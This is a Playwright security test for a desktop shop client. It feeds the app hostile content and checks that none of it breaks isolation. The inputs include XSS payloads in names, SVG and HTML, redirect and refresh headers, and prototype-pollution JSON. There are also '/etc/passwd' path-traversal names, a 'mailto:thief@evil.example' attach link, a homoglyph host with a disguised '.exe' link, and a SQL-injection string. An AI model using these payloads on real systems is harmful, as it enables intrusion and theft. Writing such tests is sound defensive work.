import { expect, type Page } from '@playwright/test'
import { startDesktop, type Desktop } from '#tests/desktop/harness/desktop.ts'
import { written } from '#tests/desktop/secrets.ts'
import { respondEndlessly, openTamperingProxy, respondWith } from '#tests/harness/tampering-proxy.ts'
import { openShop } from '#tests/harness/shop.ts'
import { base as test } from '#tests/journeys/base.ts'

/** Malicious servers, content and pages: none reaches beyond its own shop. */

const NAME = `Evil </script><img src=x onerror="window.pwned = 'by its name'">`
const SCRIPT = `window.pwned = 'by a script'`
const DOCUMENT = `<!doctype html><script>${SCRIPT}; (window.opener ?? parent).pwned = 'by a document'</script>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}; parent.pwned = 'by a picture'</script></svg>`
const html = { 'content-type': 'text/html', 'content-security-policy': "script-src * 'unsafe-inline'" }

/** Addresses that a page can't open in any way. */
const nowhere = [
  'app://welcome/',
  'app://shop-fedcba9876543210/cms',
  'file:///etc/passwd',
  'data:text/html,<script>parent.pwned = 1</script>',
  'javascript:void (window.pwned = "by an address")',
  'http://plain.example/',
  'https://user:secret@named.example/',
  'smb://nas/share',
  'hoard://signed-in?code=a&state=b',
  'mailto:thief@evil.example?attach=/etc/passwd',
]

/** Shop key from the page's host; the stand-in appends more to the host. */
const keyOf = (page: Page) => new URL(page.url()).host.split('.')[0]!
const pwned = (page: Page) => page.evaluate(() => (window as unknown as { pwned?: string }).pwned)
const pages = (page: Page) => expect(page.getByRole('heading', { name: 'PAGES' })).toBeVisible()

test('hostile content can’t reach Node, open windows, navigate or see local paths', async () => {
  await using other = await openTamperingProxy('', { '/there': respondWith({}, 'there') })
  await using shop = await openShop({ imported: false, env: { AUTH_DISABLED: '1' } })
  await using quiet = await openShop({ imported: false, env: { AUTH_DISABLED: '1', SHOP_NAME: 'Quiet' } })
  await shop.staff.pages.create({
    body: { title: '<img src=x onerror="window.pwned = 1">', slug: 'markup', isPublished: true },
  })
  const greeting = (await (await fetch(`${shop.url}/api/desktop`)).json()) as { facts: { shop: { name: string } } }
  greeting.facts.shop.name = NAME
  const json = { 'content-type': 'application/json' }
  await using evil = await openTamperingProxy(shop.url, {
    '/api/desktop': respondWith({ ...json, 'set-cookie': 'evil=1' }, JSON.stringify(greeting)),
    '/api/script.js': respondWith(
      { 'content-type': 'text/plain, text/javascript', 'set-cookie': 'evil=1; Path=/' },
      SCRIPT,
    ),
    '/uploads/evil.html': respondWith(html, DOCUMENT),
    '/uploads/evil.js': respondWith({ 'content-type': 'text/javascript' }, SCRIPT),
    '/api/evil.html': respondWith(html, DOCUMENT),
    '/api/evil.svg': respondWith({ ...html, 'content-type': 'image/svg+xml' }, SVG),
    '/api/away': respondWith({ location: `${other.url}/there` }, '', 302),
    '/api/refresh': respondWith(
      { ...json, refresh: `0; url=${other.url}/there`, link: `<${other.url}/there>; rel=preload; as=fetch` },
      '{}',
    ),
    '/api/banners': respondWith(json, 'not JSON at all'),
    '/api/navigation': respondWith(json, '{"__proto__": {"polluted": true}, "length": 3}'),
    '/api/odd': respondWith({}, '', 799),
    '/api/endless': respondEndlessly('application/json'),
  })
  await using desktop = await startDesktop({ shop: quiet })
  const first = await desktop.window()
  await pages(first)
  await first.evaluate(() => localStorage.setItem('mine', 'of the quiet shop'))
  const quietKey = keyOf(first)
  await desktop.quit()
  await desktop.restart({ shop: evil })

  const page = await desktop.window()
  await pages(page)
  const key = keyOf(page)

  await test.step('the shop’s name and content are shown as text', async () => {
    await expect(page.getByRole('banner').getByText(NAME)).toBeVisible()
    await expect(page.getByRole('heading', { name: '<img src=x onerror=' })).toBeVisible()
    expect(await pwned(page)).toBeUndefined()
  })

  await test.step('server responses can’t become scripts, documents, cookies or redirects', async () => {
    const answers = await page.evaluate(async () => {
      const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
      const script = (src: string, type = '') =>
        new Promise((resolve) => {
          const element = Object.assign(document.createElement('script'), {
            src,
            type,
            onload: resolve,
            onerror: resolve,
          })
          document.body.append(element)
        })
      await script('/api/script.js')
      await script('/api/script.js', 'module')
      await script('/uploads/evil.js', 'module')
      add('<img src="/api/evil.svg"><object data="/api/evil.svg"></object><iframe src="/api/evil.html"></iframe>')
      add('<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><embed src="/uploads/evil.html">')
      add('<link rel="stylesheet" href="/api/script.js"><base href="https://evil.example/">')
      const ask = (path: string) =>
        fetch(path).then(
          async (answer) => [
            path,
            answer.status,
            Object.fromEntries(answer.headers),
            (await answer.text()).slice(0, 100),
          ],
          () => [path, 'failed'],
        )
      const paths = [
        '/api/script.js',
        '/api/away',
        '/api/refresh',
        '/api/banners',
        '/api/navigation',
        '/api/odd',
        '/api/endless',
        '/api/desktop',
      ]
      return [await Promise.all(paths.map(ask)), document.cookie, String(({} as { polluted?: boolean }).polluted)]
    })
    expect(await pwned(page)).toBeUndefined()
    const text = JSON.stringify(answers)
    for (const word of ['evil=1', 'cookie', '"refresh"', '"link"', '"location"']) expect(text).not.toContain(word)
    expect(answers[1]).toBe('')
    expect(answers[2]).toBe('undefined')
    expect(answers[0]).toContainEqual(['/api/endless', 'failed'])
    expect(answers[0]).toContainEqual(['/api/odd', 'failed'])
    expect(other.asked).toEqual([])
  })

  await test.step('a page can’t navigate away or open anything', async () => {
    const before = page.url()
    await desktop.answerDialogs({ message: 1 })
    await page.evaluate((addresses) => {
      for (const address of addresses) {
        window.open(address)?.document.write('opened')
        const link = Object.assign(document.createElement('a'), { href: address })
        document.body.append(link)
        for (const target of ['', '_blank', '_top', 'elsewhere']) {
          link.target = target
          link.click()
        }
        link.dispatchEvent(new MouseEvent('click', { button: 1, ctrlKey: true }))
      }
      document.head.insertAdjacentHTML(
        'beforeend',
        '<meta http-equiv="refresh" content="0; url=https://refreshed.example/">',
      )
      const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://posted.example/' })
      document.body.append(form)
      form.submit()
      const blob = URL.createObjectURL(new Blob(['<script>opener.pwned = 1</script>'], { type: 'text/html' }))
      window.open(blob)
    }, nowhere)
    await page.evaluate(() => location.assign('smb://nas/last'))
    await expect.poll(async () => (await desktop.log()).deniedNavigations).toContain('smb://nas/last')
    expect(page.url()).toBe(before)
    expect(await desktop.windows()).toHaveLength(1)
    expect((await desktop.log()).openExternal).toEqual([])
    expect(await pwned(page)).toBeUndefined()
    const asked = JSON.stringify((await desktop.log()).dialogs)
    for (const address of nowhere) expect(asked).not.toContain(address)
  })

  await test.step('a blank page is left at once', async () => {
    await page.evaluate(() => location.assign('about:blank'))
    await pages(page)
    expect(keyOf(page)).toBe(key)
  })

  await test.step('the person gets one question at a time with the real address', async () => {
    await desktop.evaluate(({ dialog }) => {
      const main = globalThis as unknown as { requests: string[]; answer: () => void }
      main.requests = []
      dialog.showMessageBox = ((...given: { detail: string }[]) => {
        main.requests.push(given.at(-1)!.detail)
        return new Promise((resolve) => (main.answer = () => resolve({ response: 1, checkboxChecked: false })))
      }) as never
    })
    await page.evaluate(() => {
      for (const host of ['shop.exаmple', 'b.example', 'c.example']) open(`https://${host}/\u202Egnp.exe`)
    })
    const asked = () => desktop.evaluate(() => (globalThis as unknown as { requests: string[] }).requests)
    await expect.poll(asked).toEqual(['https://shop.xn--exmple-4nf/%E2%80%AEgnp.exe'])
    await desktop.evaluate(() => (globalThis as unknown as { answer: () => void }).answer())
    await page.evaluate(() => void open('https://d.example/'))
    await expect.poll(asked).toHaveLength(2)
    await desktop.evaluate(() => (globalThis as unknown as { answer: () => void }).answer())
    await desktop.answerDialogs({ message: 1 })
  })

  await test.step('a foreign page gets errors and nothing of other shops or the disk', async () => {
    const said = await page.evaluate(everything, { otherKey: quietKey, folder: desktop.userData })
    const text = JSON.stringify(said)
    expect(text).not.toContain(desktop.userData)
    expect(text).not.toContain(quiet.url)
    expect(text).not.toContain('Quiet')
    expect(said.find(([name]) => name === 'servers.list')![1]).toEqual([expect.objectContaining({ key })])
    for (const [name, answer] of said)
      if (/^(servers\.(add|open|remove)|signIn\.)/.test(name))
        expect(answer, name).toEqual({ words: expect.any(String) })
    expect((await desktop.log()).errorBoxes).toEqual([])
    expect(other.asked).toEqual([])
    await pages(page)
    expect(new URL(page.url()).host).toContain(key)
  })

  await test.step('files made by a page are images or rejected', async () => {
    const items = await page.evaluate(async () => {
      const { uploads } = window.hoard!
      await uploads.clear()
      const files = ['../../../../etc/passwd', '/etc/passwd', 'C:\\secret.png', '.', ''].map(
        (name) => new File(['secret'], name),
      )
      await uploads.add({ files, tags: ['../..', '__proto__'] })
      for (;;) {
        const { items } = await uploads.state()
        if (items.every(({ is }) => is === 'refused')) return items
        await new Promise((resolve) => setTimeout(resolve, 50))
      }
    })
    expect(items).toHaveLength(5)
    for (const { name } of items) expect(name).not.toMatch(/[/\\]/)
    await page.evaluate(() => window.hoard!.uploads.clear())
  })

  await test.step('the log contains no local paths', async () => {
    expect(await logOf(desktop)).not.toContain(desktop.userData)
  })

  await test.step('another shop sees nothing of it, and removal deletes everything', async () => {
    await page.evaluate(() => localStorage.setItem('theirs', 'of the evil shop'))
    await page.getByRole('button', { name: 'SWITCH SHOP…' }).click()
    await expect(page.getByRole('heading', { name: 'YOUR.SHOPS' })).toBeVisible()
    await page.evaluate(() => history.back())
    await page.waitForTimeout(200)
    await expect(page.getByRole('heading', { name: 'YOUR.SHOPS' })).toBeVisible()
    expect(await page.evaluate(() => ({ ...localStorage }))).toEqual({})
    await page.evaluate((address) => window.hoard!.servers.remove(address, true), key)
    await desktop.quit()
    expect((await written(desktop.userData)).includes(evil.url)).toBe(false)
    await desktop.restart({ shop: evil })
    const anew = await desktop.window()
    await pages(anew)
    expect(await anew.evaluate(() => localStorage.getItem('theirs'))).toBeNull()
    await desktop.quit()
    await desktop.restart({ shop: quiet })
    const last = await desktop.window()
    await pages(last)
    expect(await last.evaluate(() => ({ ...localStorage }))).toMatchObject({ mine: 'of the quiet shop' })
  })
})

const logOf = (desktop: Desktop) => written(`${desktop.userData}/logs`)

/** Calls every bridge function with unexpected arguments. Runs in the page. */
async function everything({ otherKey, folder }: { otherKey: string; folder: string }): Promise<[string, unknown][]> {
  const hoard = window.hoard as unknown as Record<string, Record<string, (...given: unknown[]) => unknown>>
  // Calls that open system dialogs or quit.
  const left =
    /^(uploads\.(choose|clear)|watching\.choose|publishing\.(backup|restore)|updates\.(install|check)|help\.showLogs|servers\.leave)$/
  const odd: unknown[][] = [
    [],
    ['../..'],
    [`${folder}/hoard.sqlite`],
    ['x'.repeat(3_000_000)],
    [otherKey, true],
    [otherKey, '/cms'],
    [otherKey, '/../../etc/passwd'],
    ['http://127.0.0.1:1'],
    ['__proto__', '{"polluted":true}'],
    ['constructor', null],
    [['__proto__', '../..', 'pages:1', '1; drop table kept']],
    [null, { __proto__: null, 'pages:1': { title: 'mine' } }],
    [[{ id: ['pages:1'] }]],
    [[{ id: 'pages:1', feature: '../..', record: '__proto__', title: '<b>' }]],
    [-1],
    [Number.NaN, undefined, new Map()],
    [() => 1],
  ]
  const said: [string, unknown][] = []
  for (const [namespace, calls] of Object.entries(hoard))
    if (typeof calls === 'object')
      for (const name of Object.keys(calls))
        if (!left.test(`${namespace}.${name}`))
          for (const given of odd) {
            let answer: unknown
            try {
              answer = await calls[name]!(...given)
            } catch (error) {
              answer = { words: String(error) }
            }
            said.push([`${namespace}.${name}`, answer ?? null])
          }
  said.push(['polluted', String(({} as { polluted?: unknown }).polluted)])
  return said
}
